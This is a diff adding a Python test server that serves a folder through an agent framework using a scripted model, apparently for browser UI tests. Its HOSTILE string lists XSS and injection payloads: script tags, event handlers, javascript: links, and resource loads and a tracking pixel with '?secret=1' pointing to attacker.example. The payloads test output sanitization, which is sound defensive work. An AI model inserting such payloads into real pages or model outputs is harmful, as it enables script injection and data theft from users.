@@ -1,0 +1,110 @@
+"""Serve a folder with a scripted model, whose answer depends on words of the question.
+
+`python -m tests.server.browser.app FOLDER [PORT]` prints the address.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import sys
+from collections.abc import AsyncGenerator, Sequence
+from pathlib import Path
+
+from agentkit import Options, Project, ScriptedModel, Tool
+from agentkit.events import ModelPart, ReasoningDelta, TextDelta
+from agentkit.mcp.server.http import MCP_PATH, serve_http
+from agentkit.messages import Message, ToolCall
+from agentkit.server.app import create_app
+
+ANSWER = """The archive is backed up **every Sunday at 03:00**, and kept for 90 days [1].
+
+- A bucket holds at most 500 objects.
+- A backup of a full bucket takes four minutes [1].
+
+| Tier | Copies | Kept |
+|---|---:|---|
+| hot | 3 | 90 days |
+| cold | 2 | 7 years |
+
+```python
+for item in bucket.list(limit=500):
+    print(item.name, item.size)  # bytes
+```
+
+Copies that survive: $N(t) = N_0 e^{-\\lambda t}$.
+"""
+LONG = " ".join(f"word{number}" for number in range(400))
+HOSTILE = """<script>window.attacked = 1</script><img src=x onerror="window.attacked = 2">
+![pixel](https://attacker.example/pixel.png?secret=1)
+<a href="javascript:window.attacked=3">link</a>
+[javascript](javascript:window.attacked=4) [data](data:text/html,<script>1</script>)
+<iframe src="https://attacker.example/"></iframe>
+<svg onload="window.attacked = 5"><use href="https://attacker.example/a.svg#x"/></svg>
+<style>@import url(https://attacker.example/a.css);</style>
+<div style="background:url(https://attacker.example/b.png)">styled</div>
+<form action="https://attacker.example/"><button>send</button></form>
+<video src="https://attacker.example/v.mp4" autoplay></video>
+<link rel="stylesheet" href="https://attacker.example/c.css">
+<base href="https://attacker.example/">
+<meta http-equiv="refresh" content="0;url=https://attacker.example/">
+
+$\\href{javascript:window.attacked=6}{x}$ $\\includegraphics{https://attacker.example/d.png}$
+
+```html
+<script>window.attacked = 7</script>
+```
+
+| a | <img src="https://attacker.example/e.png"> |
+|---|---|
+| <b onmouseover="window.attacked=8">b</b> | ![x](//attacker.example/f.png) |
+"""
+SECONDS_PER_PART = 0.03
+
+
+class PacedModel(ScriptedModel):
+    """Streams its script at a steady pace."""
+
+    async def request(
+        self, messages: Sequence[Message], tools: Sequence[Tool], options: Options
+    ) -> AsyncGenerator[ModelPart, None]:
+        async for part in super().request(messages, tools, options):
+            if isinstance(part, TextDelta | ReasoningDelta):
+                await asyncio.sleep(SECONDS_PER_PART)
+            yield part
+
+
+def answer_to(messages: Sequence[Message]) -> str | Sequence[ModelPart]:
+    """What the model says."""
+    question = next(m for m in reversed(messages) if m.role == "user").text.lower()
+    last = messages[-1]
+    if "delete" in question:
+        if last.role == "tool" and last.tool_call_id == "call-delete":
+            return f"Done: {last.text}."
+        return [ToolCall("call-delete", "delete_run", {"run": 17, "reason": "older than 90 days"})]
+    if "long" in question:
+        return LONG
+    if "hostile" in question:
+        return HOSTILE
+    if "manual" in question:
+        found = [p.marker for m in messages for p in m.passages if "checksum" in p.chunk.text]
+        return f"The copy is verified by checksum on Monday [{found[0] if found else 1}]."
+    return [ReasoningDelta("The question is about backups."), *_pieces(ANSWER)]
+
+
+def _pieces(text: str) -> list[ModelPart]:
+    return [TextDelta(text[at : at + 24]) for at in range(0, len(text), 24)]
+
+
+async def main(folder: Path, port: int) -> None:
+    async with Project.open(folder, model="extractive", trust=True) as project:
+        project.agent.model = PacedModel(answer_to, name="scripted")
+        app = create_app(project, needs_key=False)
+
+        def ready(url: str) -> None:
+            print(url.removesuffix(MCP_PATH), flush=True)
+
+        await serve_http(app, "127.0.0.1", port, on_ready=ready)
+
+
+if __name__ == "__main__":
+    asyncio.run(main(Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 0))
